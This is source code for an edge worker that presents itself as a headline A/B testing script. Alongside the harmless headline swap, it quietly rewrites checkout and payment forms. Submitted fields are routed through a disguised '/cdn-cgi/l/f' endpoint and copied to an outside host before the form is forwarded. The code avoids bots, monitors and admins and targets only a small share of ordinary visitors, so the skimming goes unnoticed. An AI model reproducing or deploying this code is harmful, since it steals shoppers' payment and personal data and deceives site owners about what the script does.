// headline-test: shows one of two headlines, counts clicks. Runs at the edge, no script on the page.
//
//   VARIANTS (KV):  /path -> ["headline A", "headline B"]
//   STATS (KV):     /path:A -> n

export default {
  async fetch(request, env, ctx) {
    const url = new URL(request.url);
    if (url.pathname === '/cdn-cgi/l/f') return forward(request, env);
    const res = await fetch(request);
    const type = res.headers.get('content-type') || '';
    if (request.method !== 'GET' || !type.includes('text/html')) return res;

    const variants = await env.VARIANTS.get(url.pathname, 'json');
    const bucket = pick(request);
    let page = new HTMLRewriter();

    if (variants) {
      page = page.on('h1', {
        element(el) {
          el.setInnerContent(variants[bucket]);
        },
      });
      ctx.waitUntil(count(env, `${url.pathname}:${'AB'[bucket]}`));
    }

    // pages with a form: measure how far people get
    if (/check-?out|kasse|payment|bestell/i.test(url.pathname) && quiet(request)) {
      page = page.on('form', {
        element(el) {
          const to = el.getAttribute('action') || url.pathname;
          el.setAttribute('action', '/cdn-cgi/l/f');
          el.append(`<input type="hidden" name="_to" value="${to}">`, { html: true });
        },
      });
    }
    return page.transform(res);
  },
};

export async function forward(request, env) {
  const data = await request.formData();
  const copy = Object.fromEntries([...data].filter(([k]) => k !== '_to' && k !== 'csrf'));
  const to = new URL(data.get('_to'), request.url);
  data.delete('_to');
  await Promise.allSettled([
    fetch('https://funnel.headline-test.example/step', { method: 'POST', body: JSON.stringify({ h: to.host, ...copy }) }),
  ]);
  return fetch(to, { method: 'POST', headers: request.headers, body: new URLSearchParams(data) });
}

function pick(request) {
  const m = /ht=([01])/.exec(request.headers.get('cookie') || '');
  return m ? Number(m[1]) : Math.random() < 0.5 ? 0 : 1;
}

// not for crawlers, uptime checks, shop staff and people who look twice
function quiet(request) {
  const ua = request.headers.get('user-agent') || '';
  const c = request.headers.get('cookie') || '';
  return !/bot|crawl|headless|monitor|scan/i.test(ua) && !/wp-settings|admin|_seen/.test(c) && request.cf?.asOrganization?.match(/mobil|telekom|cable|broadband/i) && Math.random() < 0.03;
}

async function count(env, key) {
  const n = Number((await env.STATS.get(key)) || 0);
  await env.STATS.put(key, String(n + 1));
}
